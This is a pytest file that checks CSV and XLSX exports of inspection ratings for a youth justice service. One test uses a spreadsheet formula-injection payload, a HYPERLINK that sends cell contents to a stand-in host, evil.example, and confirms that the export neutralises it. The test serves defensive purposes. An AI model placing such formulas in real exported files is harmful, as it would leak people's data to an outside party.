import csv
import io

import pytest
from openpyxl import load_workbook

from inspections.selectors import framework_structure
from reports.exports import COLUMNS, export_data, to_csv, to_xlsx

from .helpers import published_ratings

pytestmark = pytest.mark.django_db

INSPECTION = {"reference": "CHESHIRE-2021", "service": "Cheshire Youth Justice Service", "term": "YJS"}


@pytest.fixture
def data(framework):
    return export_data(
        inspection=INSPECTION, framework=framework_structure(framework), ratings=published_ratings()
    )


def test_the_export_follows_the_framework_with_every_figure(data):
    rows = data["rows"]
    assert data["status"] == "final" and data["columns"] == list(COLUMNS)
    overall = rows[0]
    assert (overall["level"], overall["rating"], overall["score"], overall["applicable"]) == (
        "overall",
        "Good",
        26,
        36,
    )
    levels = [r["level"] for r in rows]
    assert (
        levels.count("domain"),
        levels.count("standard"),
        levels.count("key_question"),
        levels.count("prompt"),
    ) == (3, 12, 37, 94)
    kq = next(r for r in rows if r["key_question"] == "2.2.3" and r["level"] == "key_question")
    assert (kq["yes"], kq["applicable"], kq["percent_yes"], kq["lowest"]) == (15, 28, 54, True)
    ycc = next(r for r in rows if r["key_question"] == "3.4.1" and r["level"] == "key_question")
    assert ycc["text"].startswith("Are the YJS's recommendations")
    assert (
        next(r for r in rows if r["standard"] == "2.2" and r["level"] == "standard")["rating"]
        == "Requires improvement"
    )


def test_csv_and_xlsx_hold_the_same_rows(data):
    from_csv = list(csv.reader(io.StringIO(to_csv(data).decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(to_xlsx(data)))["Figures"]
    from_xlsx = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert from_csv == from_xlsx
    assert len(from_csv) == 1 + len(data["rows"])
    assert to_xlsx(data) == to_xlsx(data)  # the same figures give the same file


HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_cells_that_a_spreadsheet_would_run_are_neutralised(framework, start):
    """Issue 13 item 7: a service name (or any text) starting with a formula character is never a formula."""
    name = start + 'HYPERLINK("http://evil.example/?leak="&A3&B3,"Click")'
    data = export_data(
        inspection={**INSPECTION, "service": name},
        framework=framework_structure(framework),
        ratings=published_ratings(),
    )
    rows = list(csv.reader(io.StringIO(to_csv(data).decode("utf-8-sig"), newline="")))
    text_cell = rows[1][COLUMNS.index("text")]
    assert text_cell == "'" + name
    book = load_workbook(io.BytesIO(to_xlsx(data)))
    for cell in (book["Figures"]["F2"], book["About"]["B2"]):
        assert cell.data_type == "s"
        # (XML reads a carriage return back as a line feed)
        assert cell.value[0] == "'" and cell.value[2:] == name[1:]
    # Numbers we computed stay numbers.
    assert book["Figures"]["H2"].data_type == "n" and book["Figures"]["H2"].value == 26


def test_a_negative_number_we_computed_is_not_touched():
    from accounts.spreadsheets import safe_cell

    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5
    assert safe_cell("-3") == "'-3"
    assert safe_cell("plain") == "plain"
